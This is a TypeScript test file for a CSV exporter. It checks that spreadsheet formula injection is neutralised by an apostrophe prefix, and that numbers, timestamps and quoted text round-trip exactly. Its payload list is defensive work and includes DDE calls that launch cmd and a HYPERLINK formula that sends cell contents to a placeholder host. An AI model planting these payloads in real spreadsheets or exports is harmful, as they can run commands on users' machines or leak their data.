import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { type Column, row, type Table, type Value } from '../domain/table.ts'
import { tableCsv } from './csv.ts'

function table(columns: readonly Column[], rows: readonly (readonly Value[])[]): Table {
  const names = columns.map(({ name }) => name)
  return { columns, rows: rows.map(values => row(names, values)) }
}

const texts = (values: readonly Value[]) =>
  table(
    [{ name: 'v', type: 'text' }],
    values.map(value => [value]),
  )
const lossless = { bom: false, neutralise: false }
const safe = { bom: false, neutralise: true }

function cells(csv: string): string[] {
  return parse(csv, { record_delimiter: '\r\n', relax_column_count: false }).slice(1).flat() as string[]
}

describe('formulas', () => {
  /** The list of shared/hostile/make_hostile.py (F) without its numbers. */
  const formulas = [
    '=1+1',
    "-1+cmd|' /C calc'!A0",
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.invalid?"&A1,"click")',
    '=DDE("cmd";"/C calc";"x")',
    '\uff1d1+1',
    '\uff0b1',
    '\uff0d1',
    '\uff201',
    ' =1+1',
    '"=1+1',
    '\u200b=1+1',
    '\n=1+1',
    ';=1+1',
    '%0A=1+1',
    "'=1+1",
    '\ufeff=1+1',
  ]
  test.each(formulas)('%j begins with an apostrophe and is otherwise whole', text => {
    expect(cells(tableCsv(texts([text]), safe))).toEqual([`'${text}`])
  })

  test.each(['-5', '+5.2', '1e5', '-1.5e-3', 'a=b', '平台', 'A-1', '50%', '2026-01-01'])(
    '%s is left alone',
    text => {
      expect(cells(tableCsv(texts([text]), safe))).toEqual([text])
    },
  )

  test('column names are guarded too, numbers never', () => {
    const csv = tableCsv(table([{ name: '=A1', type: 'number' }], [[-5], [-1.5e-7]]), safe)
    expect(csv).toBe("'=A1\r\n-5\r\n-1.5e-7\r\n")
  })

  test('taking one apostrophe off what was guarded gives back the data', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme', minLength: 1 }), { minLength: 1 }), values => {
        const guarded = cells(tableCsv(texts(values), safe))
        expect(guarded.map((text, i) => (text === values[i] ? text : text.slice(1)))).toEqual(values)
        expect(guarded.every(text => !/^[=@\uff1d\uff20]/.test(text))).toBe(true)
      }),
    )
  })
})

test('lossless text reads back as it was', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'grapheme', minLength: 1 }), { minLength: 1 }), values => {
      expect(cells(tableCsv(texts(values), lossless))).toEqual(values)
    }),
  )
})

test('numbers are exact, times are UTC with microseconds where there are any, absent is empty', () => {
  const columns = (['integer', 'number', 'timestamp', 'date', 'boolean', 'text'] as const).map(type => ({
    name: type,
    type,
  }))
  const midnight = Date.UTC(2026, 5, 30) * 1000
  const csv = tableCsv(
    table(columns, [
      [9_007_199_254_740_993n, 0.1, midnight, midnight, true, 'a,b'],
      [-1, 1e21, midnight + 1_500_000, midnight, false, 'say "x"'],
      [0, -0, midnight + 123_456, midnight, null, ' '],
      [null, null, -1, null, null, null],
    ]),
    { bom: true, neutralise: true },
  )
  expect(csv.split('\r\n')).toEqual([
    '\ufeffinteger,number,timestamp,date,boolean,text',
    '9007199254740993,0.1,2026-06-30T00:00:00Z,2026-06-30,true,"a,b"',
    '-1,1e+21,2026-06-30T00:00:01.500Z,2026-06-30,false,"say ""x"""',
    '0,0,2026-06-30T00:00:00.123456Z,2026-06-30,," "',
    ',,1969-12-31T23:59:59.999999Z,,,',
    '',
  ])
})
